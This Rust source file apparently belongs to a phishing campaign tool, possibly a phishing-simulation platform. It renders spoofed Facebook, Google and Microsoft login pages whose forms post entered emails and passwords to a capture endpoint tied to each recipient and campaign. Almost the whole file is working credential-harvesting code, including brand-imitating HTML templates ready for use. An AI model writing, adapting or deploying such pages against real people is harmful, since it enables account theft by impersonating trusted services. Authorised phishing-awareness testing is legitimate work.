//! Spoofed login page rendering engine.
//!
//! Each platform tag names an HTML template rendered after a tracked click.
//! The tag is free-form all the way from the send request to here, so an
//! unknown platform only surfaces as template-not-found at render time.

use std::collections::HashMap;
use uuid::Uuid;

/// Simple page renderer using {{variable}} syntax.
pub struct LoginPageRenderer {
    templates: HashMap<String, String>,
}

impl LoginPageRenderer {
    pub fn new() -> Self {
        Self {
            templates: HashMap::new(),
        }
    }

    /// Renderer preloaded with the built-in platform pages.
    pub fn builtin() -> Self {
        let mut renderer = Self::new();
        renderer.register("facebook", FACEBOOK_TEMPLATE);
        renderer.register("google", GOOGLE_TEMPLATE);
        renderer.register("microsoft", MICROSOFT_TEMPLATE);
        renderer
    }

    /// Register a template under a platform tag. Tags are matched
    /// case-insensitively at render time.
    pub fn register(&mut self, platform: &str, template: &str) {
        self.templates
            .insert(platform.to_lowercase(), template.to_string());
    }

    pub fn platforms(&self) -> Vec<&str> {
        self.templates.keys().map(String::as_str).collect()
    }

    /// Render the spoofed page for a (recipient, campaign, platform)
    /// triple, wiring the triple into the capture form action so the
    /// subsequent submission stays attributable. `None` when no template
    /// is registered for the platform.
    pub fn render(
        &self,
        platform: &str,
        recipient_id: Uuid,
        campaign_id: Uuid,
    ) -> Option<String> {
        let template = self.templates.get(&platform.to_lowercase())?;

        let capture_url = format!("/capture/{}/{}/{}/", recipient_id, campaign_id, platform);
        let vars = [
            ("capture_url", capture_url.as_str()),
            ("platform", platform),
        ];

        Some(substitute(template, &vars))
    }
}

impl Default for LoginPageRenderer {
    fn default() -> Self {
        Self::builtin()
    }
}

fn substitute(template: &str, vars: &[(&str, &str)]) -> String {
    let mut result = template.to_string();
    for (name, value) in vars {
        let placeholder = format!("{{{{{}}}}}", name);
        result = result.replace(&placeholder, value);
    }
    result
}

const FACEBOOK_TEMPLATE: &str = r#"<!DOCTYPE html>
<html>
<head><title>Log in to Facebook</title></head>
<body style="font-family: Helvetica, Arial, sans-serif; background: #f0f2f5;">
  <div style="max-width: 396px; margin: 80px auto; background: #fff; padding: 24px; border-radius: 8px;">
    <h1 style="color: #1877f2; text-align: center;">facebook</h1>
    <form method="post" action="{{capture_url}}">
      <input type="text" name="email" placeholder="Email address or phone number"
             style="width: 100%; padding: 14px; margin-bottom: 12px;" />
      <input type="password" name="password" placeholder="Password"
             style="width: 100%; padding: 14px; margin-bottom: 12px;" />
      <button type="submit" style="width: 100%; padding: 12px; background: #1877f2; color: #fff; border: none; border-radius: 6px;">Log In</button>
    </form>
  </div>
</body>
</html>
"#;

const GOOGLE_TEMPLATE: &str = r#"<!DOCTYPE html>
<html>
<head><title>Sign in - Google Accounts</title></head>
<body style="font-family: Roboto, Arial, sans-serif;">
  <div style="max-width: 450px; margin: 80px auto; border: 1px solid #dadce0; border-radius: 8px; padding: 48px 40px;">
    <h1 style="font-weight: 400; text-align: center;">Sign in</h1>
    <p style="text-align: center;">Use your Google Account</p>
    <form method="post" action="{{capture_url}}">
      <input type="text" name="email" placeholder="Email or phone"
             style="width: 100%; padding: 13px; margin-bottom: 16px;" />
      <input type="password" name="password" placeholder="Enter your password"
             style="width: 100%; padding: 13px; margin-bottom: 16px;" />
      <button type="submit" style="float: right; padding: 10px 24px; background: #1a73e8; color: #fff; border: none; border-radius: 4px;">Next</button>
    </form>
  </div>
</body>
</html>
"#;

const MICROSOFT_TEMPLATE: &str = r#"<!DOCTYPE html>
<html>
<head><title>Sign in to your account</title></head>
<body style="font-family: 'Segoe UI', Arial, sans-serif; background: #f2f2f2;">
  <div style="max-width: 440px; margin: 80px auto; background: #fff; padding: 44px;">
    <h1 style="font-size: 24px;">Sign in</h1>
    <form method="post" action="{{capture_url}}">
      <input type="text" name="email" placeholder="Email, phone, or Skype"
             style="width: 100%; padding: 10px 0; margin-bottom: 16px; border: none; border-bottom: 1px solid #666;" />
      <input type="password" name="password" placeholder="Password"
             style="width: 100%; padding: 10px 0; margin-bottom: 16px; border: none; border-bottom: 1px solid #666;" />
      <button type="submit" style="float: right; padding: 8px 32px; background: #0067b8; color: #fff; border: none;">Sign in</button>
    </form>
  </div>
</body>
</html>
"#;
